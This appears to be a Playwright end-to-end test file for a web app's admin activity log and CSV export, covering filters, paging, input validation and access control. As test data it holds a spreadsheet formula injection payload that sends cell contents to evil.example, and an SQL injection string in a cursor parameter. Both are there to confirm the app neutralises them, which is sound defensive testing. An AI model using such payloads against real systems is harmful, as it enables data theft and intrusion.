import { readFile } from "node:fs/promises";
import type { Page } from "@playwright/test";
import { expect, test } from "./fixtures";
import { signIn, signInOverHttp, softwarePasskey } from "./accounts";
import { baseURL, E2E_ADMINS } from "./config";
import { expectNoServerError, sendLink, testDatabase, uniqueEmail, usersWithEmail } from "./helpers";

/**
 * The admin console's Activity (/admin/activity) and its CSV export (/admin/activity/export): every account's events,
 * filtered by type, account and UTC days, paged with the filters kept; and who is refused. Each test has an admin
 * address of its own (E2E_ADMINS 12 to 14), so no other test's admin actions land in its view.
 */

const origin = { origin: baseURL() };
const COLUMNS = "id,time,type,user id,user email,admin email,ip,user agent,details";
/** A user agent a spreadsheet would run as a formula, were the export to write it as it came. */
const FORMULA_AGENT = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';

const idOf = async (email: string) => String((await usersWithEmail(email))[0].id);

/** Signs the browser in as an admin, with a passkey on the account (the second factor the console asks for). */
async function adminSignedIn(page: Page, email: string) {
  await signIn(page, email, "/admin/activity");
  await softwarePasskey(await idOf(email));
  await page.reload();
  await expect(page.getByRole("form", { name: "Filter the activity" })).toBeVisible();
}

/** Stores events as the app stores them: [type, day (YYYY-MM-DD, at noon UTC), details]; their ids, in order. */
async function storeEvents(userId: string | null, events: [string, string, Record<string, unknown>][]) {
  const db = testDatabase();
  try {
    const ids: number[] = [];
    for (const [type, day, details] of events) {
      const result = await db.execute({
        sql: "INSERT INTO audit_event (userId, type, createdAt, details) VALUES (?, ?, ?, ?)",
        args: [userId, type, `${day}T12:00:00.000Z`, JSON.stringify(details)],
      });
      ids.push(Number(result.lastInsertRowid));
    }
    return ids;
  } finally {
    db.close();
  }
}

const shownIds = (page: Page) => page.getByTestId("activity").locator("li").evaluateAll((items) => items.map((item) => Number(item.getAttribute("data-event-id"))));

/** RFC 4180 lines of a small CSV (no line breaks inside cells here): each line's cells. */
const csvRows = (csv: string) =>
  csv
    .trimEnd()
    .split("\r\n")
    .map((line) => [...line.matchAll(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)].map(([, cell]) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell)).slice(0, 9));

test.describe("an admin reads every account's activity", () => {
  test("filters by type, account and days, pages with the filters kept, names the admin who acted, and exports the same rows as CSV", async ({ page, request }) => {
    // A whole admin's session in one test (an admin address has a few sign-in emails per 10 minutes): many pages.
    const admin = E2E_ADMINS[12];
    const target = uniqueEmail("watched");
    await signInOverHttp(request, target);
    // A sign-in email asked for from a client whose user agent is a spreadsheet formula.
    expect((await sendLink(request, { email: target, callbackURL: "/dashboard" }, { ...origin, "user-agent": FORMULA_AGENT })).status()).toBe(200);
    const targetId = await idOf(target);
    const signOuts = await storeEvents(
      targetId,
      Array.from({ length: 30 }, () => ["sign_out", "2026-01-15", {}] as [string, string, Record<string, unknown>]),
    );
    const [early, middle, late] = await storeEvents(targetId, [
      ["password.set", "2020-03-01", {}],
      ["password.set", "2020-03-02", {}],
      ["password.set", "2020-03-03", {}],
    ]);
    await adminSignedIn(page, admin);

    // By account and type: 30 events, over two pages, the filters kept in the pager's links.
    await page.getByLabel("Event type").selectOption("sign_out");
    await page.getByLabel("Account's email").fill(target.toUpperCase());
    await page.getByRole("button", { name: "Show events" }).click();
    await expect(page).toHaveURL(/type=sign_out/);
    const first = await shownIds(page);
    expect(first.length).toBeGreaterThan(0);
    expect(first).toEqual(signOuts.toReversed().slice(0, first.length));
    for (const user of await page.getByTestId("event-user").all()) {
      await expect(user).toHaveText(target);
      await expect(user).toHaveAttribute("href", `/admin/users/${targetId}`);
    }
    const older = page.getByRole("link", { name: "Older events" });
    await expect(older).toHaveAttribute("href", /type=sign_out/);
    await older.click();
    await expect(page).toHaveURL(/before=\d+/);
    await expect(page.getByRole("heading", { name: "Older events" })).toBeVisible();
    expect([...first, ...(await shownIds(page))]).toEqual(signOuts.toReversed());
    await expect(page.getByRole("link", { name: "Older events" })).toHaveCount(0);
    await expect(page.getByLabel("Event type")).toHaveValue("sign_out");
    await expect(page.getByLabel("Account's email")).toHaveValue(target.toUpperCase());

    // By days, both ends included (UTC).
    await page.goto(`/admin/activity?${new URLSearchParams({ user: target, from: "2020-03-02", to: "2020-03-03" })}`);
    expect(await shownIds(page)).toEqual([late, middle]);
    await page.goto(`/admin/activity?${new URLSearchParams({ user: target, to: "2020-03-01" })}`);
    expect(await shownIds(page)).toEqual([early]);

    // An admin action names the admin; an event whose account is gone says so.
    const suspended = await page.request.post("/api/auth/admin/ban-user", { data: { userId: targetId, banReason: "Spam" }, headers: origin });
    expect(suspended.status()).toBe(200);
    await page.goto(`/admin/activity?${new URLSearchParams({ type: "admin.user_suspended", user: target })}`);
    await expect(page.getByTestId("activity").locator("li")).toHaveCount(1);
    await expect(page.getByTestId("event-admin")).toHaveText(admin);
    const [gone] = await storeEvents(null, [["admin.user_deleted", new Date().toISOString().slice(0, 10), { user: "a-gone-id", admin: await idOf(admin) }]]);
    await page.goto("/admin/activity?type=admin.user_deleted");
    const deleted = page.locator(`li[data-event-id="${gone}"]`);
    await expect(deleted.getByTestId("event-user")).toHaveText("A deleted account");
    await expect(deleted.getByTestId("event-admin")).toHaveText(admin);

    // The export: the account's rows, every column, the formula written as text.
    await page.goto(`/admin/activity?${new URLSearchParams({ user: target })}`);
    const link = page.getByRole("link", { name: "Export as CSV" });
    await expect(link).toHaveAttribute("href", `/admin/activity/export?user=${encodeURIComponent(target)}`);
    const [download] = await Promise.all([page.waitForEvent("download"), link.click()]);
    expect(download.suggestedFilename()).toMatch(/^activity-\d{4}-\d{2}-\d{2}\.csv$/);
    const csv = await readFile((await download.path())!, "utf8");
    const [header, ...rows] = csvRows(csv);
    expect(header.join(",")).toBe(COLUMNS);
    expect(rows.every((row) => row[3] === targetId && row[4] === target)).toBe(true);
    const ids = rows.map((row) => Number(row[0]));
    expect(ids).toEqual(ids.toSorted((a, b) => b - a));
    expect(ids).toEqual(expect.arrayContaining([...signOuts, early, middle, late]));
    const suspension = rows.find((row) => row[2] === "admin.user_suspended")!;
    expect(suspension[5]).toBe(admin);
    expect(JSON.parse(suspension[8])).toMatchObject({ reason: "Spam" });
    expect(rows.find((row) => row[0] === String(early))![1]).toBe("2020-03-01T12:00:00.000Z");
    const sent = rows.filter((row) => row[2] === "magic_link.sent");
    expect(sent.map((row) => row[7])).toContain(`'${FORMULA_AGENT}`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);

    const response = await page.request.get(`/admin/activity/export?${new URLSearchParams({ user: target, type: "password.set", from: "2020-03-02" })}`);
    expect(response.status()).toBe(200);
    expect(response.headers()["cache-control"]).toBe("no-store");
    expect(response.headers()["content-type"]).toMatch(/^text\/csv/);
    expect(response.headers()["x-truncated"]).toBe("false");
    expect(csvRows(await response.text()).slice(1).map((row) => Number(row[0]))).toEqual([late, middle]);
  });

  test("an address with no account shows that, and garbage in the filters gets a message, never a server error", async ({ page }) => {
    // Each value is asked of the page and of the export: fourteen requests after a sign-in.
    await adminSignedIn(page, E2E_ADMINS[14]);
    await page.getByLabel("Account's email").fill(uniqueEmail("nobody"));
    await page.getByRole("button", { name: "Show events" }).click();
    await expect(page.getByTestId("no-account")).toHaveText("No account has that address.");
    await expect(page.getByTestId("activity")).toHaveCount(0);

    const garbage = [
      ["type=nonsense", "Choose an event type from the list."],
      ["user=not-an-address", "Enter one email address"],
      ["from=2026-02-30", "Enter dates as a day"],
      ["to=yesterday", "Enter dates as a day"],
      ["from=2026-03-02&to=2026-03-01", "before the “from” date"],
      ["type=sign_out&type=sign_out", "Give “type” once."],
      [`user=${"a".repeat(5000)}@example.com`, "Enter one email address"],
    ] as const;
    // One in the browser; the rest over HTTP, the page's answer and the export's.
    await page.goto(`/admin/activity?${garbage[0][0]}`);
    await expect(page.getByRole("main").getByRole("alert")).toHaveText(garbage[0][1]);
    await expect(page.getByLabel("Event type")).toHaveValue("");
    const answers = [];
    for (const [query, message] of garbage) {
      const shown = await page.request.get(`/admin/activity?${query}`);
      expect(shown.status()).toBe(200);
      const html = await shown.text();
      expect(html).toContain(message);
      expect(html).not.toContain('data-testid="activity"');
      const exported = await page.request.get(`/admin/activity/export?${query}`);
      expect(exported.status()).toBe(400);
      expect(await exported.json()).toMatchObject({ code: "INVALID_FILTER", message: expect.stringContaining(message) });
      answers.push(shown, exported);
    }
    await expectNoServerError(answers);
    // A cursor that is not an id is ignored: the newest events.
    const cursor = await page.goto("/admin/activity?before=-1%27%20OR%201=1");
    expect(cursor!.status()).toBe(200);
    await expect(page.getByRole("heading", { name: "Events, newest first" })).toBeVisible();
  });
});

test.describe("only an admin holding a second factor reads the activity", () => {
  test("signed out: the page sends to sign-in and the export answers 401", async ({ page, request }) => {
    await page.goto("/admin/activity?type=sign_out");
    await expect(page).toHaveURL(/\/sign-in\?callbackURL=%2Fadmin%2Factivity$/);
    const exported = await request.get("/admin/activity/export");
    expect(exported.status()).toBe(401);
    expect(exported.headers()["content-type"]).toMatch(/^application\/json/);
  });

  test("an account that is not an admin's: 403 on the page with nothing of the log, 403 ADMIN_ONLY on the export", async ({ page }) => {
    const email = uniqueEmail("curious");
    await signIn(page, email);
    const shown = await page.goto(`/admin/activity?${new URLSearchParams({ user: email })}`);
    expect(shown!.status()).toBe(403);
    await expect(page.getByText("Only the app's admins can see this page.")).toBeVisible();
    await expect(page.getByTestId("activity")).toHaveCount(0);
    await expect(page.getByRole("link", { name: "Export as CSV" })).toHaveCount(0);
    const exported = await page.request.get("/admin/activity/export");
    expect(exported.status()).toBe(403);
    expect(await exported.json()).toMatchObject({ code: "ADMIN_ONLY" });
  });

  test("an admin without a second factor: the page says to add one, the export answers 403 ADMIN_NEEDS_SECOND_FACTOR", async ({ page }) => {
    await signIn(page, E2E_ADMINS[13], "/admin/activity");
    await expect(page.getByTestId("admin-needs-second-factor")).toBeVisible();
    await expect(page.getByTestId("activity")).toHaveCount(0);
    await expect(page.getByRole("form", { name: "Filter the activity" })).toHaveCount(0);
    const exported = await page.request.get("/admin/activity/export");
    expect(exported.status()).toBe(403);
    expect(await exported.json()).toMatchObject({ code: "ADMIN_NEEDS_SECOND_FACTOR" });
  });
});
